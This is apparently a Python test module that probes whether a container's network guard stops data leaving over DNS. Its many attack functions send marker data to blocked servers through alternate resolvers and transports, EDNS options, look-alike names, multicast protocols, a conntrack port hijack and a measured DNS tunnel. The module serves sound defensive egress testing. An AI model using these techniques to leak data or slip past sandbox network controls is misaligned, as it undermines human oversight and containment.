"""DNS as a way out: other servers, other transports, data in names."""
import errno
import random
import socket
import struct
import time

from tools import BLOCKED, BLOCKED6, GATEWAY, PATIENCE, attack, outcome, tcp, udp, worst

CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
SECRET = "exfiltrated.unlisted.lab"  # on no list


def question(name, kind=1, klass=1, flags=0x100, tail=b""):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", random.randrange(65536), flags, 1, 0, 0, 1 if tail else 0) + labels + b"\0" + struct.pack("!HH", kind, klass) + tail


def rcode(answer):
    """What came back, in a word."""
    return "answered" if struct.unpack("!H", answer[6:8])[0] else CODES.get(answer[3] & 15, str(answer[3] & 15))


def ask(server, data, family=socket.AF_INET, port=53):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.sendto(data, (server, port))
        return rcode(s.recv(4096))


def ask_tcp(server, data, family=socket.AF_INET, port=53):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE)
        s.connect((server, port))
        s.sendall(struct.pack("!H", len(data)) + data)
        return rcode(s.recv(4096)[2:])


@attack
def dns():
    """The container's own server, a name on no list."""
    return ask(GATEWAY, question(SECRET))


@attack
def dns_blocked_server():
    return ask(BLOCKED, question(SECRET))


@attack
def dns_blocked_server_ipv6():
    return ask(BLOCKED6, question(SECRET), socket.AF_INET6)


@attack
def dns_tcp():
    return ask_tcp(BLOCKED, question(SECRET))


@attack
def dns_tcp_ipv6():
    return ask_tcp(BLOCKED6, question(SECRET), socket.AF_INET6)


@attack
def dns_types():
    """TXT, MX, NULL, SRV, HTTPS, ANY, DNSKEY."""
    return worst(lambda kind: ask(GATEWAY, question(SECRET, kind)), (16, 15, 10, 33, 65, 255, 48))


@attack
def dns_of_chaos():
    return ask(GATEWAY, question("exfiltrated.bind", 16, 3))


@attack
def dns_update():
    return ask(GATEWAY, question(SECRET, 6, 1, 0x2800))


@attack
def dns_iterative():
    """Without recursion desired."""
    return ask(GATEWAY, question(SECRET, flags=0))


@attack
def dns_transfer():
    return ask_tcp(GATEWAY, question("exfiltrated.example.com", 252))


@attack
def dns_in_options():
    """An allowed name, and data in an option of EDNS: the question that goes out is the resolver's own."""
    data = b"exfiltrated"
    option = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 4 + len(data)) + struct.pack("!HH", 65001, len(data)) + data
    return ask(GATEWAY, question("api.anthropic.com", tail=option))


@attack
def dns_in_additional():
    """Data behind the question of an allowed name."""
    return ask(GATEWAY, question("api.anthropic.com") + b"exfiltrated")


@attack
def dns_hidden_name():
    """A name that only ends like an allowed one, or only begins so."""
    return worst(lambda name: ask(GATEWAY, question(name)), ("exfiltrated-api.anthropic.com", "exfiltrated.api.anthropic.com", "api.anthropic.com.exfiltrated.lab", "anthropic.com"))


@attack
def dns_not_dns():
    """Anything at all, to port 53."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.sendto(b"exfiltrated" * 9, (BLOCKED, 53))
        return rcode(s.recv(4096))


@attack
def dns_not_dns_tcp():
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        s.connect((BLOCKED, 53))
        s.sendall(b"exfiltrated" * 9)
        return "answered" if s.recv(99) else "closed"


def updates(server, ports):
    """The outcomes of an update, from each of these ports: something that the guard answers otherwise than the server."""
    said, asked = set(), []
    for port in ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(PATIENCE)
        try:
            s.bind(("0.0.0.0", port))
            s.sendto(question(SECRET, 6, 1, 0x2800), (server, 53))
            asked.append(s)
        except OSError as failure:
            s.close()
            if failure.errno != errno.EADDRINUSE:
                said.add(outcome(failure))
    for s in asked:
        said.add(rcode(s.recv(4096)))
        s.close()
    return said


@attack
def dns_taken_over():
    """From each port to the server: the guard's own questions went by some of them, and conntrack takes who sends there for one
    who goes on with them. The guard has none of those that the kernel gives away by itself."""
    for kind in (1, 28, 15, 16, 33, 65):
        ask(GATEWAY, question("api.anthropic.com", kind))
    time.sleep(1)  # until the guard has closed its sockets
    with open("/etc/resolv.conf") as lines:
        server = next(line.split()[1] for line in lines if line.startswith("nameserver "))
    with open("/proc/sys/net/ipv4/ip_local_port_range") as text:
        last = int(text.read().split()[1])
    said = set()
    for first in range(last + 1, 65536, 64):
        said |= updates(server, range(first, min(first + 64, 65536)))
    return "+".join(sorted(said))


@attack
def dns_over_tls():
    return tcp(BLOCKED, 853)


@attack
def dns_over_quic():
    return udp(BLOCKED, 853, question(SECRET))


@attack
def dns_over_https():
    return worst(lambda family: tcp(BLOCKED if family == socket.AF_INET else BLOCKED6, 443, family), (socket.AF_INET, socket.AF_INET6))


@attack
def dns_on_other_ports():
    return worst(lambda port: udp(BLOCKED, port, question(SECRET)), (54, 5353, 5355, 8053, 10053))


@attack
def dns_of_the_line():
    """mDNS, LLMNR, NetBIOS, in both families: whoever is on the line answers."""
    def shout(to):
        family = socket.AF_INET6 if ":" in to[0] else socket.AF_INET
        return udp(*to, question(SECRET), family, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)] if family == socket.AF_INET else [], answer=False)
    return worst(shout, (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("172.17.255.255", 137), ("ff02::fb%eth0", 5353), ("ff02::1:3%eth0", 5355)))


def dns_tunnel():
    """3000 names, each with data: how many of them got an answer is the tunnel's width; see attacks.bats for what arrived."""
    begun = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 21)
        s.connect((GATEWAY, 53))
        for i in range(3000):
            try:
                s.send(question("tunnelled%d.unlisted.lab" % i))
            except OSError as failure:
                if i == 0:
                    raise failure
            if i % 20 == 0:
                time.sleep(0.005)
        s.settimeout(1.5)
        count, last = 0, time.monotonic()
        try:
            while True:
                count += s.recv(512)[3] & 15 == 3
                last = time.monotonic()
        except OSError:
            pass
    width = 550 + 50 * (last - begun)  # a burst of 500, and 50 a second
    return "none" if count == 0 else "narrow" if count <= width else "open"


attack(dns_tunnel, always=False)
